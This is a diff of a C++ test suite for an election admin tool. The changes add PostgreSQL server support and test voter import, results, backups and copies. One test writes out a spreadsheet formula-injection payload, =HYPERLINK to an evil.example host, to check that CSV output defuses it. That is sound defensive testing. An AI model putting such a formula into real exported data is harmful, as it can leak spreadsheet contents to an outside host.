@@ -1,6 +1,7 @@
 // The companion tool pollaris-admin, run as a separate process against real
-// election files: creating a file, importing voters, printing results and
-// backing up while votes are being written.
+// elections in files and on a server: creating one, importing voters, printing
+// results, backing up while votes are being written, and copying between a file
+// and a server.
 
 #include "TestSupport.h"
 
@@ -15,6 +16,7 @@
 #include <QProcess>
 #include <QScopeGuard>
 #include <atomic>
+#include <libpq-fe.h>
 #include <memory>
 #include <thread>
 
@@ -33,6 +35,21 @@ static Run admin(const QStringList &args)
             QString::fromUtf8(p.readAllStandardError())};
 }
 
+// The tool's arguments that name an election.
+static QStringList at(const ElectionFolder &e)
+{
+    return e.onServer() ? QStringList{"--server", e.server()} : QStringList{e.file()};
+}
+
+// Every row of every table, in the order the rows were added.
+static QStringList everything(const ElectionFolder &e)
+{
+    QStringList all;
+    for (const char *table : {"Positions", "CandInfo", "CandVote", "Users", "Administrators"})
+        all << table + e.rows(QStringLiteral("SELECT * FROM %1 ORDER BY rowid").arg(table)).join("\n");
+    return all;
+}
+
 class AdminToolTest : public QObject {
     Q_OBJECT
     std::unique_ptr<ElectionFolder> db;
@@ -45,12 +62,18 @@ class AdminToolTest : public QObject {
 
 private slots:
     void initTestCase() { QVERIFY2(QFile::exists(qEnvironmentVariable("POLLARIS_ADMIN")), "POLLARIS_ADMIN not set"); }
-    void init() { db = std::make_unique<ElectionFolder>(); }
-
-    void newRefusesAnExistingFileAndNoCommandCreatesAMissingOne()
+    void initTestCase_data() { addEngineRows(); }
+    void init()
     {
-        Run r = admin({"new", "--admin", "x", "--password", "y", db->file()});
-        QVERIFY(r.exitCode > 0 && r.err.contains(QStringLiteral("already exists")));
+        FETCH_ENGINE(engine);
+        db = std::make_unique<ElectionFolder>(engine);
+    }
+
+    void newRefusesAnExistingElectionAndNoCommandCreatesAMissingOne()
+    {
+        Run r = admin(QStringList{"new", "--admin", "x", "--password", "y"} + at(*db));
+        QVERIFY2(r.exitCode > 0 && r.err.contains(db->onServer() ? "already holds an election" : "already exists"),
+                 qPrintable(r.err));
         QCOMPARE(db->rows(QStringLiteral("SELECT * FROM Administrators")), QStringList{"admin|secret"});
         // Nor does it follow a link, even one to nowhere.
         QVERIFY(QFile::link(db->folder() + "/pointed.mdb", db->folder() + "/link.mdb"));
@@ -58,20 +81,33 @@ private slots:
         QVERIFY2(r.exitCode > 0 && r.err.contains("/link.mdb is a symbolic link"), qPrintable(r.err));
         QVERIFY(!QFile::exists(db->folder() + "/pointed.mdb"));
 
-        QVERIFY(QFile::remove(db->file()));
-        QCOMPARE(admin({"new", "--admin", "boss", "--password", "pw", db->file()}).exitCode, 0);
-        QCOMPARE(db->rows(QStringLiteral("SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name")),
-                 QStringList({"Administrators", "CandInfo", "CandVote", "Positions", "Users"}));
+        if (db->onServer())
+            db->exec("DROP TABLE Positions, CandInfo, CandVote, Users, Administrators");
+        else
+            QVERIFY(QFile::remove(db->file()));
+        QCOMPARE(admin(QStringList{"new", "--admin", "boss", "--password", "pw"} + at(*db)).exitCode, 0);
+        QCOMPARE(db->rows(db->onServer() ? "SELECT initcap(relname) FROM pg_class WHERE relkind = 'r' AND "
+                                           "relnamespace = current_schema()::regnamespace ORDER BY 1"
+                                         : "SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name"),
+                 db->onServer() ? QStringList({"Administrators", "Candinfo", "Candvote", "Positions", "Users"})
+                                : QStringList({"Administrators", "CandInfo", "CandVote", "Positions", "Users"}));
         QCOMPARE(db->rows(QStringLiteral("SELECT * FROM Administrators")), QStringList{"boss|pw"});
 
-        // No command creates a missing file; a new one with no administrator given and
-        // nothing to read is refused too.
+        // No command creates a missing file or database; a new one with no administrator
+        // given and nothing to read is refused too; a password on the command line is
+        // refused before anything is sent.
         const QString missing = db->folder() + "/missing.mdb", copy = db->folder() + "/c.mdb";
+        const QStringList nowhere =
+            db->onServer() ? QStringList{"--server", db->server() + " dbname=pollaris_missing"} : QStringList{missing};
         const QString list = csv("Name,Student ID,Password\nAnn,1,p\n");
-        for (const QStringList &args : {QStringList{"import-voters", list, missing}, QStringList{"results", missing},
-                                        QStringList{"backup", copy, missing}, QStringList{"new", missing}})
+        for (const QStringList &args : {QStringList{"import-voters", list} + nowhere, QStringList{"results"} + nowhere,
+                                        QStringList{"backup", copy} + nowhere, QStringList{"new"} + nowhere,
+                                        QStringList{"results", "--server", db->server() + " password=pw"}})
             QVERIFY2(admin(args).exitCode > 0 && !QFile::exists(missing) && !QFile::exists(copy),
                      qPrintable(args.join(' ')));
+        QCOMPARE(admin({"results", "--server", "postgresql://u:pw@localhost/x"}).err,
+                 "pollaris-admin results: The connection string holds a password. Put the password in ~/.pgpass (or "
+                 "the file PGPASSFILE names) or in a service file, never on the command line.\n");
     }
 
     void importsAGoodRowOrRefusesTheWholeFile_data()
@@ -107,14 +143,14 @@ private slots:
     {
         QFETCH(QByteArray, row);
         QFETCH(QString, fault);
-        db->exec(QStringLiteral("INSERT INTO Users VALUES ('Old', 'ÄB', 'x', 1)"));
+        db->exec(QStringLiteral("INSERT INTO Users VALUES ('Old', 'ÄB', 'x', true)"));
         // Good rows around the row under test on line 4: a byte order mark, CRLF and LF
         // mixed, a quoted field with a comma and doubled quotes, outer blanks, a blank row.
         const QString list =
             csv("\xEF\xBB\xBFName,Student ID,Password\r\n\"Reyes, Maria\",good-1,\"say \"\"hi\"\"\"\r\n"
                 " Two  Blanks , good-2,p2\n" +
                 row + "\r\nlast,good-3,p3\n,,\n");
-        Run r = admin({"import-voters", list, db->file()});
+        Run r = admin(QStringList{"import-voters", list} + at(*db));
         if (fault.isEmpty())
             QVERIFY2(r.exitCode == 0 && r.out.contains(QStringLiteral("Imported 4")) &&
                          r.out.contains(QStringLiteral("outer blanks of 2 field(s)")),
@@ -134,37 +170,40 @@ private slots:
     {
         const auto users = [this] { return db->rows(QStringLiteral("SELECT * FROM Users ORDER BY rowid")); };
         // No header: refused, so that its first voter is not taken for one.
-        Run r = admin({"import-voters", csv("Ann,1,p\nBo,2,q\n"), db->file()});
+        Run r = admin(QStringList{"import-voters", csv("Ann,1,p\nBo,2,q\n")} + at(*db));
         QVERIFY2(r.exitCode > 0 && r.err.contains(db->folder() + "/voters.csv line 1: the first row must be the "
                                                                  "header naming the columns Name, Student ID (or "
                                                                  "Username) and Password"),
                  qPrintable(r.err));
         for (const QByteArray header : {"Name,Student ID,Student ID", "Name,Student ID", "Name,ID,Password"})
-            QVERIFY(
-                admin({"import-voters", csv(header + "\nAnn,1,p\n"), db->file()}).err.contains("must be the header"));
+            QVERIFY(admin(QStringList{"import-voters", csv(header + "\nAnn,1,p\n")} + at(*db))
+                        .err.contains("must be the header"));
         QCOMPARE(users(), QStringList());
 
         // Columns in another order, by other names, separated by semicolons, blank rows skipped.
-        r = admin({"import-voters",
-                   csv(" PASSWORD ;username; Name \r\n x1 ; A103 ;Ann Lee\r\n\r\n;;\r\npw2;B7;Bo\r\n;;\r\n"),
-                   db->file()});
+        r = admin(
+            QStringList{"import-voters",
+                        csv(" PASSWORD ;username; Name \r\n x1 ; A103 ;Ann Lee\r\n\r\n;;\r\npw2;B7;Bo\r\n;;\r\n")} +
+            at(*db));
         QVERIFY2(r.exitCode == 0 && r.out.contains("Imported 2") && r.out.contains("outer blanks of 2 field(s)"),
                  qPrintable(r.err));
         QCOMPARE(users(), QStringList({"Ann Lee|A103|x1|0", "Bo|B7|pw2|0"}));
 
         // Not UTF-8: the line of the first bad byte; too many faults: 20 named, the rest counted.
-        r = admin({"import-voters", csv("Name,Username,Password\nAnn,1,p\nB\xE9o,2,q\n"), db->file()});
+        r = admin(QStringList{"import-voters", csv("Name,Username,Password\nAnn,1,p\nB\xE9o,2,q\n")} + at(*db));
         QVERIFY2(r.exitCode > 0 && r.err.contains("voters.csv line 3: the file is not UTF-8") &&
                      r.err.contains("\"CSV UTF-8\""),
                  qPrintable(r.err));
-        r = admin({"import-voters", csv("Name,Username,Password\n" + QByteArray("x,,p\n").repeated(25)), db->file()});
+        r = admin(QStringList{"import-voters", csv("Name,Username,Password\n" + QByteArray("x,,p\n").repeated(25))} +
+                  at(*db));
         QVERIFY2(r.exitCode > 0 && r.err.count("student ID is empty") == 20 && r.err.contains("... and 5 more"),
                  qPrintable(r.err));
         // A file or a line too large is refused without reading it all.
         QFile huge(db->folder() + "/huge.csv");
         QVERIFY(huge.open(QIODevice::WriteOnly) && huge.write("Name,Username,Password\n") && huge.resize(65 << 20));
-        QVERIFY(admin({"import-voters", huge.fileName(), db->file()}).err.contains("huge.csv is larger than 64 MiB"));
-        r = admin({"import-voters", "/dev/zero", db->file()});
+        QVERIFY(admin(QStringList{"import-voters", huge.fileName()} + at(*db))
+                    .err.contains("huge.csv is larger than 64 MiB"));
+        r = admin(QStringList{"import-voters", "/dev/zero"} + at(*db));
         QVERIFY2(r.exitCode > 0 && r.err.contains("/dev/zero line 1: the line is longer than 64 KiB"),
                  qPrintable(r.err));
         QCOMPARE(users().size(), 2);
@@ -173,7 +212,7 @@ private slots:
         QByteArray many = "Name,Username,Password\n";
         for (int i = 0; i < 10001; ++i)
             many += "Voter " + QByteArray::number(i) + ",s" + QByteArray::number(i) + ",p\n";
-        r = admin({"import-voters", csv(many), db->file()});
+        r = admin(QStringList{"import-voters", csv(many)} + at(*db));
         QVERIFY2(r.exitCode == 0 && r.err.contains("importing 50% (5001 of 10001 rows)\n") &&
                      r.err.contains("importing 100% (10001 of 10001 rows)\n"),
                  qPrintable(r.err));
@@ -182,6 +221,8 @@ private slots:
 
     void newTakesThePasswordFromStandardInputAndWarnsOfOneOnTheCommandLine()
     {
+        if (db->onServer())
+            QSKIP("the password handling is the same for a server; the file case shows it");
         QVERIFY(QFile::remove(db->file()));
         QProcess p;
         p.start(qEnvironmentVariable("POLLARIS_ADMIN"), {"new", "--admin", "boss", "--password-stdin", db->file()});
@@ -205,12 +246,17 @@ private slots:
 
     void csvNeverHandsASpreadsheetAFormula()
     {
+        const QString chr = db->onServer() ? "chr" : "char";
         db->exec("INSERT INTO Positions VALUES ('+P', '=1+1');"
                  "INSERT INTO CandInfo VALUES ('@A', '=HYPERLINK(\"http://evil.example/\"&A1,\"Click\")', '1', '+P'),"
-                 " ('B', '@SUM(1)', '2', '+P'), ('C', '-2+3', '3', '+P'), ('D', char(9) || 'tab', '4', '+P'),"
-                 " ('E', char(13) || 'cr', '5', '+P'), ('F', 'Ann = Bo - 1', '6', '+P');"
+                 " ('B', '@SUM(1)', '2', '+P'), ('C', '-2+3', '3', '+P'), ('D', " +
+                 chr +
+                 "(9) || 'tab', '4', '+P'),"
+                 " ('E', " +
+                 chr +
+                 "(13) || 'cr', '5', '+P'), ('F', 'Ann = Bo - 1', '6', '+P');"
                  "INSERT INTO CandVote VALUES ('@A', 6), ('B', 5), ('C', 4), ('D', 3), ('E', 2), ('F', -1)");
-        QCOMPARE(admin({"results", "--csv", db->file()}).out.split("\r\n"),
+        QCOMPARE(admin(QStringList{"results", "--csv"} + at(*db)).out.split("\r\n"),
                  QStringList({"PosID,PosName,CandID,CandName,NumVotes",
                               "'+P,'=1+1,'@A,\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"Click\"\")\",6",
                               "'+P,'=1+1,B,'@SUM(1),5", "'+P,'=1+1,C,'-2+3,4", "'+P,'=1+1,D,'\ttab,3",
@@ -220,6 +266,8 @@ private slots:
 
     void backupNeverOverwritesNorFollowsALink()
     {
+        if (db->onServer())
+            QSKIP("the copy's target is a file either way; the file case shows it");
         const QString dir = db->folder();
         db->exec("INSERT INTO CandVote VALUES ('A', 0)");
         Run r = admin({"backup", dir + "/clean.mdb", db->file()});
@@ -268,25 +316,27 @@ private slots:
             " ('C', 'Carla Villanueva de los Santos', '3', 'P1'), ('D', 'Dee', '4', 'P2'), ('E', 'Émile', '5', 'p2');"
             "INSERT INTO CandVote VALUES ('A', 12), ('B', 40), ('C', 12), ('D', 0), ('E', 33000), ('b', 7), ('F', "
             "-1);"));
-        startProgramIn(db->folder());
+        startProgramOn(*db);
         frmCountVotes &screen = Shell::Show<frmCountVotes>();
         QString shown;
-        for (const QString &code : db->rows(QStringLiteral("SELECT PosID FROM Positions"))) {
+        for (const QString &code : db->rows(QStringLiteral("SELECT PosID FROM Positions ORDER BY rowid"))) {
             screen.GetnDisplay(code);
             shown += (shown.isEmpty() ? "" : "\n") + screen.lblTitle->text().remove("Voting Results for ") + "\n";
             for (int i = 0; i < screen.lstResults->count(); ++i)
                 shown += screen.lstResults->item(i)->text() + "\n";
         }
         Shell::reset();
-        QCOMPARE(admin({"results", db->file()}).out, shown);
+        QCOMPARE(admin(QStringList{"results"} + at(*db)).out, shown);
         // The same ranking as comma-separated values, quoted where a text needs it.
-        QCOMPARE(admin({"results", "--csv", db->file()}).out.split("\r\n").mid(0, 3),
+        QCOMPARE(admin(QStringList{"results", "--csv"} + at(*db)).out.split("\r\n").mid(0, 3),
                  QStringList({"PosID,PosName,CandID,CandName,NumVotes", "P1,\"Head, \"\"Chief\"\"\",B,\"Li, Bo\",40",
                               "P1,\"Head, \"\"Chief\"\"\",A,Ana Cruz,12"}));
     }
 
     void backupIsConsistentWhileVotesAreWrittenAndNeverOverwrites()
     {
+        if (db->onServer())
+            QSKIP("a server's backup is a copy, tested with the copy");
         // A file of some size, so that copying it takes a while. Each vote marks a voter
         // and moves one vote from B to A in one unit: a torn copy breaks the sums. The
         // copies are made in the place of this test's own file, and read there.
@@ -326,6 +376,96 @@ private slots:
         QVERIFY(r.exitCode > 0 && r.err.contains(QStringLiteral("already exists")));
         QCOMPARE(db->value(tally).toInt(), last);
         QCOMPARE(live.value(QStringLiteral("PRAGMA integrity_check")).toString(), QStringLiteral("ok"));
+    }
+
+    // An election goes from the server to a new file and back to an empty database,
+    // every row and field as it was, in the same order. Nothing that holds an election,
+    // and nothing at all at a file's place, is overwritten; a copy that fails half-way
+    // leaves no tables behind.
+    void copyBetweenFileAndServerBothWaysLosesNothing()
+    {
+        if (!db->onServer())
+            QSKIP("needs both engines: runs in the server's row");
+        db->exec("INSERT INTO Positions VALUES ('P1','Head, \"Chief\"'),('p2','Sécretary');"
+                 "INSERT INTO CandInfo VALUES ('A','Ana O''Cruz','1','P1'),('B',NULL,'2','p2');"
+                 "INSERT INTO CandVote VALUES ('A',2147483647),('B',-1),('b',NULL);"
+                 "INSERT INTO Users VALUES ('Ärger','ä1','pw',true),('N','n2',NULL,false),('F','f3','x',NULL);"
+                 "DELETE FROM CandInfo WHERE CandID = 'A'; INSERT INTO CandInfo VALUES ('A','Ana O''Cruz','1','P1')");
+        const QStringList original = everything(*db);
+        ElectionFolder file, backup;
+        QVERIFY(QFile::remove(file.file()) && QFile::remove(backup.file()));
+        Run r = admin({"copy", db->server(), file.file()});
+        QVERIFY2(r.exitCode == 0 && r.out.contains("2 Positions, 2 CandInfo, 3 CandVote, 3 Users, 1 Administrators"),
+                 qPrintable(r.err + r.out));
+        QCOMPARE(everything(file), original);
+        QCOMPARE(QDir(file.folder()).entryList(QDir::Files | QDir::Hidden), QStringList{"candpos4.mdb"});
+
+        const QString link = file.folder() + "/link.mdb", linked = file.folder() + "/linked.mdb";
+        QVERIFY(QFile::link(linked, link));
+        for (const QStringList &args :
+             {QStringList{"copy", db->server(), file.file()}, QStringList{"copy", db->server(), link},
+              QStringList{"backup", "--server", db->server(), link}, QStringList{"copy", file.file(), db->server()}}) {
+            r = admin(args);
+            QVERIFY2(r.exitCode > 0 &&
+                         r.err.contains(args.last() == db->server() ? "already holds an election" : "already exists"),
+                     qPrintable(r.err));
+        }
+        QVERIFY(!QFile::exists(linked));
+        QCOMPARE(everything(file), original);
+        QCOMPARE(everything(*db), original);
+
+        // Back to an empty database; a server's backup is a copy to a new file.
+        const QString drop = "DROP TABLE Positions, CandInfo, CandVote, Users, Administrators";
+        db->exec(drop);
+        r = admin({"copy", file.file(), db->server()});
+        QVERIFY2(r.exitCode == 0, qPrintable(r.err));
+        QCOMPARE(everything(*db), original);
+        QCOMPARE(admin({"backup", "--server", db->server(), backup.file()}).exitCode, 0);
+        QCOMPARE(everything(backup), original);
+
+        // A value the server refuses (a flag of 2) stops the copy with no table made.
+        file.exec("UPDATE Users SET HasVoted = 2 WHERE Username = 'n2'");
+        db->exec(drop);
+        r = admin({"copy", file.file(), db->server()});
+        QVERIFY2(r.exitCode > 0 && r.err.contains("nothing was copied"), qPrintable(r.err));
+        QCOMPARE(db->value("SELECT count(*) FROM pg_class WHERE relnamespace = current_schema()::regnamespace").toInt(),
+                 0);
+    }
+
+    // A copy of a server's election is one moment of it while stations vote. Each vote
+    // marks a voter and counts itself in the position's name, in one unit; the copy reads
+    // the positions first and the voters last, with 20,000 candidates copied in between.
+    void copyOfAServerIsOneMomentWhileVotesAreWritten()
+    {
+        if (!db->onServer())
+            QSKIP("the file's own backup is tested above");
+        db->exec("INSERT INTO Users SELECT 'Voter ' || i, 'S' || i, 'p', false FROM generate_series(1, 20000) i;"
+                 "INSERT INTO CandInfo SELECT 'C' || i, 'Name', 'S', 'P' FROM generate_series(1, 20000) i;"
+                 "INSERT INTO Positions VALUES ('P', '0')");
+        std::atomic<int> written{0}, stop{0};
+        std::thread writer([&] { // a station of its own, voting as fast as it can
+            PGconn *station = PQconnectdb(db->server().toUtf8().constData());
+            for (int i = 1; !stop && PQstatus(station) == CONNECTION_OK; ++i, ++written)
+                PQclear(PQexec(station, QStringLiteral("UPDATE Users SET HasVoted = true WHERE Username = 'S%1';"
+                                                       "UPDATE Positions SET PosName = (PosName::int + 1)::text")
+                                            .arg(i)
+                                            .toUtf8()
+                                            .constData()));
+            PQfinish(station);
+        });
+        const auto joinWriter = qScopeGuard([&] { stop = 1, writer.join(); });
+        ElectionFolder file;
+        for (int k = 0; k < 3; ++k) {
+            const int before = written;
+            QTRY_VERIFY_WITH_TIMEOUT(written > before + 2, 20000);
+            QVERIFY(QFile::remove(file.file()));
+            const Run r = admin({"copy", db->server(), file.file()});
+            QVERIFY2(r.exitCode == 0, qPrintable(r.err));
+            QCOMPARE(file.rows("SELECT CAST(PosName AS INTEGER) = (SELECT count(*) FROM Users WHERE HasVoted),"
+                               " (SELECT count(*) FROM CandInfo) FROM Positions"),
+                     QStringList{"1|20000"});
+            QVERIFY(file.value("SELECT CAST(PosName AS INTEGER) FROM Positions").toInt() > before);
+        }
     }
 };
 
